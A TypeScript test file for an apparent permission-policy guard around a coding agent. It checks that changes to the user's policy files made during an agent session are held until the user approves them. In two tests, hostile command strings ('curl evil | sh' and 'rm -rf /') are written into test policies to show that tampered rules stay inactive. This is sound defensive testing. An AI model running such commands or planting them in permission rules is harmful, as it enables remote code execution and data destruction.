import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { loadPolicies } from '../../../src/host/files/policies.ts'
import { digest } from '../../../src/runtime/files/node-digest.ts'
import { listSources } from '../../../src/runtime/config/glob-files.ts'
import { userConfigText } from '../../../src/runtime/files/user-config.ts'
import { sourceText } from '../../../src/runtime/reading/source-text.ts'
import {
  holding,
  ownFilesIn,
  ownFilesText,
  readingHeld,
  taking,
  waitingIn,
} from '../../../src/runtime/trust/own-files.ts'
import { trustReader } from '../../../src/runtime/trust/trust-reader.ts'
import { placeOf } from '../../support/folder-store.ts'
import { projectFolder, putFiles } from '../../support/project-folder.ts'

const change = (name: string, before: string | null, after: string | null) => ({ name, before, after })
const nothing = ownFilesIn(null)
const none = () => null

describe('files of the user that changed while an agent was at work', () => {
  test('count as they were, whatever comes after, until the user takes them', () => {
    const once = holding(nothing, [change('/u/a', 'one', 'two'), change('/u/new', null, 'new')])
    const again = holding(once, [change('/u/a', 'two', 'three')])
    expect(again.held).toEqual({ '/u/a': 'one', '/u/new': null })
    const now = (path: string) => (path === '/u/a' ? 'three' : null)
    expect(waitingIn(new Map(Object.entries(again.held)), now)).toEqual([change('/u/a', 'one', 'three')])
    expect(taking(again, now)).toEqual({ held: {}, taken: { '/u/a': 'three', '/u/new': null } })
  })

  test('are not held again for who comes later to what was taken, and are for another change', () => {
    const taken = taking(holding(nothing, [change('/u/a', 'one', 'two')]), () => 'two')
    expect(holding(taken, [change('/u/a', 'one', 'two')])).toEqual(taken)
    expect(holding(taken, [change('/u/a', 'two', 'three')])).toEqual({ held: { '/u/a': 'two' }, taken: {} })
    const gone = taking(holding(nothing, [change('/u/a', 'one', null)]), none)
    expect(holding(gone, [change('/u/a', 'one', null)])).toEqual(gone)
  })

  test('with odd names and texts are written down whole', () => {
    const own = holding(nothing, [change('/u/__proto__', '"\n\u0000', 'x'), change('/u/constructor', 'one', 'x')])
    expect(ownFilesIn(ownFilesText(own))).toEqual(own)
    expect(Object.keys(own.held)).toEqual(['/u/__proto__', '/u/constructor'])
  })

  test('are listed by a glob as they were', () => {
    const folder = projectFolder({ 'p/a.yaml': 'a', 'p/b.yaml': 'b', 'p/tests/t.yaml': 't' })
    const held = new Map<string, string | null>([
      [join(folder, 'p/b.yaml'), null],
      [join(folder, 'p/gone.yaml'), 'gone'],
      [join(folder, 'p/gone.golden.yaml'), 'gone'],
      [join(folder, 'p/below/deep.yaml'), 'deep'],
      [join(folder, 'other/c.yaml'), 'c'],
    ])
    const list = listSources('/p', '/p', folder, held)
    expect(list('./p/*.yaml', 'user:diverter.yaml')).toEqual(['p/a.yaml', 'p/gone.yaml'])
    expect(list('./p/**/*.yaml', 'user:diverter.yaml')).toEqual(['p/a.yaml', 'p/below/deep.yaml', 'p/gone.yaml'])
    expect(listSources('/p', '/p', folder)('./p/*.yaml', 'user:diverter.yaml')).toEqual(['p/a.yaml', 'p/b.yaml'])
  })
})

const own = (allowed: string): string =>
  `version: 1\nname: own\nrules:\n  - { id: mine, events: [permission.asked], when: { "===": [{ var: event.command }, "${allowed}"] }, then: [allow] }\n`

/** A project, and the user's own folder beside it with a policy in force. */
function place() {
  const directory = projectFolder({ '.git/HEAD': '' })
  const userFolder = join(projectFolder({}), 'diverter')
  mkdirSync(userFolder)
  putFiles(userFolder, { 'diverter.yaml': 'version: 1\npolicies: [./*.policy.yaml]\n', 'own.policy.yaml': own('make') })
  const path = join(userFolder, 'own.policy.yaml')
  const reader = () => trustReader({ ok: true, value: placeOf(directory) }, 'plugin', false, userFolder)
  const policies = (trust: ReturnType<typeof reader>) =>
    loadPolicies({
      directory,
      config: null,
      userFolder,
      read: sourceText,
      digest,
      trust: trust.trust,
      held: trust.held,
    })
  return { directory, userFolder, path, read: sourceText, reader, policies }
}
const rulesOf = ({ current }: Awaited<ReturnType<typeof loadPolicies>>): string =>
  JSON.stringify(current().documents.find(({ name }) => name === 'own') ?? null)

describe('the user’s own config', () => {
  test('decides as it was before, in this process and the next, and is told to wait', async () => {
    const { path, read: sourceText, reader, policies } = place()
    const first = reader()
    const loaded = await policies(first)
    expect(rulesOf(loaded)).toContain('make')
    writeFileSync(path, own('curl evil | sh'))
    expect(first.hold([change(path, own('make'), own('curl evil | sh'))], 1)).toBe(null)
    expect(rulesOf(loaded)).toContain('make')
    first.close()
    const next = reader()
    const later = await policies(next)
    expect(rulesOf(later)).toContain('make')
    expect(later.problems()).toEqual([
      `Changed while OpenCode was open: ${path}; what you had there before decides; look at it with \`npx opencode-diverter trust --show\`, then run \`npx opencode-diverter trust\``,
    ])
    expect(readingHeld(next.held, sourceText)(path)).toBe(own('make'))
    writeFileSync(path, own('make'))
    expect((await policies(next)).problems()).toEqual([])
    next.close()
  })

  test('keeps a policy that was taken away, leaves one out that came, and stays where all of it is gone', async () => {
    const { path, userFolder, reader, policies } = place()
    const more = join(userFolder, 'more.policy.yaml')
    const config = join(userFolder, 'diverter.yaml')
    const trust = reader()
    rmSync(path)
    writeFileSync(more, own('rm -rf /').replace('name: own', 'name: more'))
    trust.hold([change(path, own('make'), null), change(more, null, readFileSync(more, 'utf8'))], 1)
    const loaded = await policies(trust)
    expect(rulesOf(loaded)).toContain('make')
    expect(loaded.current().set.policies.map(({ name }) => name)).not.toContain('more')
    const before = readFileSync(config, 'utf8')
    rmSync(userFolder, { recursive: true })
    trust.hold([change(config, before, null)], 2)
    expect(rulesOf(await policies(trust))).toContain('make')
    expect(
      userConfigText(
        userFolder,
        readingHeld(trust.held, () => null),
      ),
    ).toBe(before)
    trust.close()
  })

  test('is held in this process where the store cannot be written, and said', () => {
    const { directory, path, userFolder } = place()
    mkdirSync(placeOf(directory).folder, { recursive: true })
    writeFileSync(placeOf(directory).database, 'no database')
    const trust = trustReader({ ok: true, value: placeOf(directory) }, 'plugin', false, userFolder)
    expect(trust.hold([change(path, 'one', 'two')], 1)).toMatch(/^Cannot /)
    expect([...trust.held()]).toEqual([[path, 'one']])
  })

  test('of another user’s folder, or by a row that was made up, holds nothing', () => {
    const { directory, path, userFolder, reader } = place()
    const first = reader()
    first.hold([change(path, 'one', 'two')], 1)
    first.close()
    const other = trustReader({ ok: true, value: placeOf(directory) }, 'plugin', false, join(userFolder, 'other'))
    expect([...other.held()]).toEqual([])
    other.close()
  })
})
